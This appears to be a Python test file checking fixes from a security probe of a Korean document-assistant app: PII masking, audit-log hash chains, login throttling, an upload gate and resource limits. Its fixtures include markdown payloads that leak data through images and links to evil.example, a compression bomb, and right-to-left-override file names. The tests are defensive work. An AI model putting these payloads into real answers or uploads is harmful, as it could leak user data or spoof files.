"""What the outside security probe of main 8471d6f found, one test (or a few) per finding, at the
Python level. The Streamlit ones (session re-checks, audit before text, the HTTP gate) are in
tests/ui; findings 1 and 2 (summary by path, the 법령 filter) in tests/test_access_groups.py."""

from __future__ import annotations

import contextlib
import io
import os
import sqlite3
import stat
import threading
import zipfile
import zlib
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from assistant.app.feedback import FeedbackStore
from assistant.security import auth
from assistant.security.accounts import Account, AccountsError, load_accounts, save_account
from assistant.security.audit import AuditLog, get_audit_log
from assistant.security.guard import InputRejected, check_upload
from assistant.security.throttle import LoginThrottle, LoginThrottled
from ingest.core.model import ErrorKind, LoaderError, LoadLimits
from ingest.core.settings import Settings
from ingest.documents.loaders import load_document
from ingest.documents.loaders.hwp import _decompress
from tests.ui.conftest import ADMIN, STAFF, write_accounts
from ui.gate import AnonymousGate, upload_session_id
from ui.safe_markdown import safe_html_text, safe_markdown

SECRETS_TEXT = "민원인 900101-1234568 의 메일 hong@example.com 으로 회신"


# --- 5. personal data in feedback, file modes, a log whose guard was dropped ----------------------


def test_feedback_is_masked_like_the_audit_log(tmp_path: Path) -> None:
    store = FeedbackStore(f"sqlite:///{tmp_path / 'feedback.sqlite3'}")
    store.add(
        session_id="s",
        message_id="m",
        question=SECRETS_TEXT,
        answer=f"답변: {SECRETS_TEXT}",
        sources=[f"업로드/{SECRETS_TEXT}.pdf"],
        mode="extractive",
        no_evidence=False,
        rating=-1,
        comment=f"제 번호는 {SECRETS_TEXT}",
    )
    with sqlite3.connect(tmp_path / "feedback.sqlite3") as conn:
        stored = repr(conn.execute("SELECT * FROM feedback").fetchall())
    assert "1234568" not in stored and "hong@example.com" not in stored
    assert "900101-1******" in stored


def test_data_files_are_private(tmp_path: Path) -> None:
    AuditLog(f"sqlite:///{tmp_path / 'audit.sqlite3'}").record("login", "kim", "staff")
    FeedbackStore(f"sqlite:///{tmp_path / 'feedback.sqlite3'}")
    LoginThrottle(f"sqlite:///{tmp_path / 'security.sqlite3'}").failed("kim", "c", auth.ThrottlePolicy())
    old = tmp_path / "old.sqlite3"  # a file an older version created world-readable
    old.touch(mode=0o644)
    os.chmod(old, 0o644)
    FeedbackStore(f"sqlite:///{old}")
    files = [p for p in tmp_path.iterdir() if p.name.endswith((".sqlite3", "-wal", "-shm"))]
    assert len(files) >= 4
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in files} == {p.name: 0o600 for p in files}


def test_hash_chain_shows_a_row_removed_after_the_trigger_was_dropped(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'audit.sqlite3'}"
    log = AuditLog(url)
    for i in range(5):
        log.record("ask", "kim", "staff", question=f"질문 {i}")
    assert log.verify().ok and log.verify().rows == 5
    with sqlite3.connect(tmp_path / "audit.sqlite3") as conn:
        conn.execute("DROP TRIGGER audit_log_no_delete")
    report = log.verify()
    assert not report.ok and "audit_log_no_delete" in report.reason  # a dropped guard shows
    with sqlite3.connect(tmp_path / "audit.sqlite3") as conn:
        conn.execute("DELETE FROM audit_log WHERE id = 3")
    report = log.verify()
    assert (report.ok, report.broken_id) == (False, 4)
    assert "앞 행" in str(report)


def test_hash_chain_shows_an_edited_row_and_the_cli_reports_it(
    tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    from assistant.security.audit import main

    url = f"sqlite:///{tmp_path / 'audit.sqlite3'}"
    log = AuditLog(url)
    for who in ("kim", "lee", "park"):
        log.record("login", who, "staff")
    assert main(["verify", "--url", url]) == 0 and "정상" in capsys.readouterr().out
    with sqlite3.connect(tmp_path / "audit.sqlite3") as conn:
        conn.execute("DROP TRIGGER audit_log_no_update")
        conn.execute("UPDATE audit_log SET user = 'someone' WHERE id = 2")
    assert main(["verify", "--url", url]) == 1
    assert "2번 행" in capsys.readouterr().out


def test_chain_stays_linear_under_concurrent_writers(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'audit.sqlite3'}"
    logs = [AuditLog(url) for _ in range(3)]  # three "processes" on one file

    def write(log: AuditLog, n: int) -> None:
        for i in range(15):
            log.record("ask", f"u{n}", "staff", question=str(i))

    threads = [threading.Thread(target=write, args=(log, n)) for n, log in enumerate(logs)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    report = logs[0].verify()
    assert report.ok and report.rows == 45


# --- 6. anyone could lock any account; per-process counters ---------------------------------------


@pytest.fixture()
def throttle_settings(tmp_path: Path) -> Settings:
    s = Settings()
    s.security.accounts_file = write_accounts(tmp_path / "accounts.toml")
    s.security.state_url = f"sqlite:///{tmp_path / 'security.sqlite3'}"
    s.security.max_login_failures = 5
    return s


def test_an_attacker_cannot_lock_the_owner_out(throttle_settings: Settings) -> None:
    s = throttle_settings
    clock = [1_000_000.0]
    throttle = LoginThrottle(s.security.state_url, clock=lambda: clock[0])
    login, password, user = ADMIN
    for _ in range(40):  # an attacker at one address keeps guessing, as fast as allowed
        with contextlib.suppress(LoginThrottled):
            assert auth.verify_login(login, "guess", s, client="203.0.113.7", throttle=throttle) is None
        clock[0] += 1
    with pytest.raises(LoginThrottled):
        auth.verify_login(login, password, s, client="203.0.113.7", throttle=throttle)
    # The owner, from their own desk: at most account_backoff_max_seconds (30 s) away.
    waited = 0
    while True:
        try:
            assert auth.verify_login(login, password, s, client="10.1.2.3", throttle=throttle) == user
            break
        except LoginThrottled as wait:
            assert wait.seconds <= s.security.account_backoff_max_seconds
            clock[0] += wait.seconds
            waited += wait.seconds
    assert waited <= s.security.account_backoff_max_seconds


def test_counts_are_shared_between_instances_and_survive_a_restart(throttle_settings: Settings) -> None:
    s = throttle_settings
    url = s.security.state_url
    first, second = LoginThrottle(url), LoginThrottle(url)  # two app instances on one store
    for i in range(5):
        (first if i % 2 else second).failed(STAFF[0], "198.51.100.1", auth.ThrottlePolicy.from_settings(s))
    with pytest.raises(LoginThrottled):
        second.check(STAFF[0], "198.51.100.1")
    restarted = LoginThrottle(url)
    with pytest.raises(LoginThrottled):
        restarted.check(STAFF[0], "198.51.100.1")
    entry = next(e for e in restarted.entries() if e.key == f"pair:{STAFF[0]}|198.51.100.1")
    assert entry.failures == 5
    assert restarted.clear(entry.key) == 1  # an admin clears it
    restarted.check(STAFF[0], "198.51.100.1")


def test_a_client_spraying_many_accounts_is_blocked(throttle_settings: Settings) -> None:
    s = throttle_settings
    s.security.client_max_failures = 10
    throttle = LoginThrottle(s.security.state_url)
    for i in range(10):
        auth.verify_login(f"user{i}", "x", s, client="192.0.2.5", throttle=throttle)
    with pytest.raises(LoginThrottled) as wait:
        auth.verify_login(STAFF[0], STAFF[1], s, client="192.0.2.5", throttle=throttle)
    assert wait.value.seconds > 800  # lockout_minutes for that client …
    assert (
        auth.verify_login(STAFF[0], STAFF[1], s, client="10.1.2.3", throttle=throttle) == STAFF[2]
    )  # … only


# --- 7. anonymous clients: uploads and metrics (the HTTP gate) ------------------------------------


def test_gate_refuses_metrics_and_anonymous_uploads(monkeypatch: pytest.MonkeyPatch) -> None:
    import asyncio

    from ui import gate

    logged_in = {"s-admin"}
    monkeypatch.setattr(gate, "session_is_logged_in", lambda sid: sid in logged_in)
    passed: list[str] = []

    async def app(scope, receive, send) -> None:
        passed.append(scope["path"])

    def call(path: str, method: str = "PUT") -> int | None:
        sent: list[dict] = []

        async def send(message) -> None:
            sent.append(message)

        scope = {"type": "http", "path": path, "method": method}
        asyncio.run(AnonymousGate(app)(scope, lambda: None, send))  # type: ignore[arg-type]
        return sent[0]["status"] if sent else None

    assert call("/_stcore/metrics", "GET") == 404
    assert call("/app/_stcore/metrics", "GET") == 404  # behind a base URL path too
    assert call("/_stcore/upload_file/s-anon/f1") == 403
    assert call("/_stcore/upload_file/s-admin/f1") is None and passed == ["/_stcore/upload_file/s-admin/f1"]
    assert call("/_stcore/health", "GET") is None
    assert upload_session_id("/_stcore/upload_file/abc/def") == "abc" and upload_session_id("/x") is None


# --- 8. outbound requests from answer text -------------------------------------------------------

HOSTILE_MARKDOWN = [
    "![](http://evil.example/leak?q=secret)",
    "![x][r]\n\n[r]: http://evil.example/a.png",
    "[근거](https://evil.example/phish)",
    "<https://evil.example/auto>",
    "자세한 내용은 https://evil.example/x 참고",
    "www.evil.example/x 참고",
    '<img src="http://evil.example/i.png">',
    "\\![](http://evil.example/escaped)",
]


@pytest.mark.hostile("refuse")
@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_answer_markdown_makes_no_image_or_link(text: str) -> None:
    md = MarkdownIt("commonmark", {"linkify": False}).enable(["table", "strikethrough"])
    rendered = md.render(safe_markdown(text))
    assert "<img" not in rendered and "<a " not in rendered and "href" not in rendered
    assert "evil.example" in rendered  # still shown, as text
    html_out = safe_html_text(text)
    assert "<img" not in html_out and "://" not in html_out and "www." not in html_out


def test_safe_markdown_keeps_ordinary_answers_readable() -> None:
    md = MarkdownIt("commonmark")
    rendered = md.render(safe_markdown("**처리기간**은 [1] 제21조에 따라 10일 연장할 수 있습니다."))
    assert "<strong>처리기간</strong>" in rendered and "[1] 제21조" in rendered


# --- 9. resource limits: containers, HWP streams, file names ----------------------------------------


def _hwpx(sections: int, chars: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), "application/hwp+zip")
        body = "가" * chars
        xml = (
            '<?xml version="1.0" encoding="UTF-8"?><hs:sec xmlns:hs="http://www.hancom.co.kr/hwpml/2011/section" '
            'xmlns:hp="http://www.hancom.co.kr/hwpml/2011/paragraph"><hp:p><hp:run><hp:t>'
            f"{body}</hp:t></hp:run></hp:p></hs:sec>"
        )
        for i in range(sections):
            zf.writestr(f"Contents/section{i}.xml", xml)
    return buf.getvalue()


def test_many_small_sections_stop_at_the_text_budget(tmp_path: Path) -> None:
    path = tmp_path / "many.hwpx"
    path.write_bytes(_hwpx(sections=40, chars=20_000))  # each member small; together 800k characters
    assert path.stat().st_size < 100_000
    limits = LoadLimits(max_text_chars=200_000)
    with pytest.raises(LoaderError) as err:
        load_document(path, limits)
    assert err.value.kind is ErrorKind.TOO_MUCH_TEXT and "many.hwpx" in str(err.value)
    assert len(load_document(path, LoadLimits(max_text_chars=1_000_000)).text) >= 800_000


def test_hwp_section_streams_are_inflated_within_a_cap() -> None:
    bomb = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = bomb.compress(b"\0" * 50_000_000) + bomb.flush()  # 50 MB of zeros in ≈50 KB
    assert len(raw) < 100_000
    with pytest.raises(LoaderError) as err:
        _decompress(raw, Path("bomb.hwp"), "BodyText/Section0", budget=1_000_000)
    assert err.value.kind is ErrorKind.ZIP_BOMB
    assert _decompress(zlib.compress(b"abc")[2:-4], Path("ok.hwp"), "S0", budget=10) == b"abc"


@pytest.mark.hostile("refuse")
@pytest.mark.parametrize(
    "name",
    [
        "가" * 300 + ".pdf",  # 900 bytes: the file system refuses it (OSError before)
        "a" * 250 + ".txt",
        "보고서\u202etxt.exe.pdf",  # right-to-left override: shows as "보고서fdp.exe.txt"
        "보고\u2066서.txt",
        "줄\n바꿈.txt",
        "   .txt",
    ],
)
def test_odd_file_names_get_a_clear_refusal(name: str, sec_settings: Settings) -> None:
    with pytest.raises(InputRejected) as err:
        check_upload(name, ("본문 내용입니다. " * 10).encode(), sec_settings)
    assert err.value.kind in (ErrorKind.NAME, ErrorKind.FORMAT)
    assert "\u202e" not in str(err.value) and "\u2066" not in str(err.value)


def test_long_name_upload_on_the_admin_page_is_refused_not_crashed(
    sec_settings: Settings, tmp_path: Path
) -> None:
    from assistant.app import index_admin as admin

    sec_settings.ui.upload_dir = tmp_path / "uploads"
    result = admin.save_uploads(
        [("가" * 300 + ".txt", "본문 내용입니다. ".encode() * 10)], sec_settings, ADMIN[2]
    )
    assert not result.saved and "이름이 너무 깁니다" in result.rejected[0][1]
    # the audit log records why, from the error's kind (never from the Korean message)
    assert get_audit_log(sec_settings).recent(1, event="input_rejected")[0].detail == "업로드: name"


# --- 10. the accounts file ---------------------------------------------------------------------------


@pytest.mark.hostile("refuse")
@pytest.mark.parametrize("name", ["김\x7f관리", "이\x00름", "줄\n바꿈", "방향\u202e바꿈", ""])
def test_a_bad_display_name_is_refused_and_logins_keep_working(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_accounts(tmp_path / "accounts.toml")
    before = path.read_bytes()
    monkeypatch.setattr("sys.stdin", io.StringIO("새-비밀번호-2026\n"))
    code = auth.main(["add-user", "newbie", "--name", name or " ", "--password-stdin", "--file", str(path)])
    assert code == 2 and path.read_bytes() == before
    s = Settings()
    s.security.accounts_file = path
    s.security.state_url = f"sqlite:///{tmp_path / 'security.sqlite3'}"
    assert auth.verify_login(ADMIN[0], ADMIN[1], s) == ADMIN[2]


def test_names_with_toml_syntax_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "accounts.toml"
    tricky = Account("kim", '김 "주무관" \\ [users.x] #', "staff", ("감사 팀",))
    save_account(path, tricky)
    assert load_accounts(path)["kim"] == tricky
    assert not list(tmp_path.glob(".accounts-*"))  # no temporary file left behind
    with pytest.raises(AccountsError):
        save_account(path, Account("lee", "이", "staff", ("감사,인사",)))  # a comma would split the group
